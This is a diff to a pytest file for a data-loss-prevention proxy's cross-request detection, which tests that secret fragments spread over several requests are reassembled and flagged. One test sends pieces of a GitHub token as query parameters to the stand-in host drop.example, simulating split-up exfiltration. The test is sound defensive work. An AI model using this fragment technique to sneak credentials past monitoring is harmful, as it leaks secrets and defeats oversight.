@@ -30,11 +30,12 @@ PIECES = [KEY[start : start + 5] for start in range(0, 20, 5)]
 def policy() -> Policy:
     text = """
 version: 1
+dlp: {include_defaults: false}
 cross_request_detection:
   enabled: true
   fragment_reassembly: {enabled: true}
 """
-    return compile_policy(loads(text, "test"), {}, None)
+    return compile_policy(loads(text, "test"), {}, None, judges_responses=False)
 
 
 @pytest.fixture
@@ -106,8 +107,8 @@ def test_pieces_are_put_together(policy: Policy, way: str, junk: bool) -> None:
 
 @settings(max_examples=25, deadline=None)
 @given(st.permutations(range(3)), st.lists(st.sampled_from(range(4)), max_size=4))
-def test_three_pieces_in_any_order(order: list[int], junk: list[int]) -> None:
-    session = Session(_shared_policy())
+def test_three_pieces_in_any_order(policy: Policy, order: list[int], junk: list[int]) -> None:
+    session = Session(policy)
     cut = [TOKEN[:14], TOKEN[14:27], TOKEN[27:]]
     found: list[str] = []
     for at in order:
@@ -115,16 +116,6 @@ def test_three_pieces_in_any_order(order: list[int], junk: list[int]) -> None:
             session.send(**JUNK[number])
         found = session.send(f"http://drop.example/?{'xkq'[at]}={cut[at]}")
     assert found == ["GitHub Token"]
-
-
-_POLICIES: list[Policy] = []
-
-
-def _shared_policy() -> Policy:
-    if not _POLICIES:
-        text = "version: 1\ncross_request_detection: {enabled: true, fragment_reassembly: {enabled: true}}\n"
-        _POLICIES.append(compile_policy(loads(text, "test"), {}, None))
-    return _POLICIES[0]
 
 
 def test_the_end_of_a_large_body_counts(policy: Policy) -> None:
@@ -169,7 +160,7 @@ def test_what_stands_in_one_request_was_found_there(policy: Policy) -> None:
 def test_work_is_not_disturbed(policy: Policy) -> None:
     session = Session(policy)
     random.seed(11)
-    for number in range(150):
+    for number in range(60):
         commit = f"{random.getrandbits(160):040x}"
         assert session.send(f"http://git.example/repo/commit/{commit}?page={number}&per_page=30&token_type=bearer") == []
         assert session.send(f"http://pkg.example/simple/package-{number}/", headers=(("x-request-id", commit[:16]),)) == []
@@ -265,13 +256,13 @@ def test_slow_noise_to_one_domain(budget: Policy) -> None:
 
 
 def test_memory_is_bounded(policy: Policy, monkeypatch: pytest.MonkeyPatch) -> None:
-    monkeypatch.setattr(cross_request, "MAX_TOTAL", 200_000)
+    monkeypatch.setattr(cross_request, "MAX_TOTAL", 120_000)
     session = Session(policy)
     noise = random.Random(1)
-    for number in range(300):
+    for number in range(60):
         body = json.dumps({f"k{noise.randrange(50)}x": noise.randbytes(40).hex() for _ in range(40)}).encode()
         session.send(client=f"10.0.0.{number % 5}", method="POST", body=body, content_type="application/json")
-        assert session.tracker.size <= 200_000
+        assert session.tracker.size <= 120_000
         assert session.tracker.size == sum(one.size for one in session.tracker._sessions)
         assert all(one.size <= 65_536 for one in session.tracker._sessions)
     assert len(session.tracker._drips) <= cross_request.MAX_DRIPS
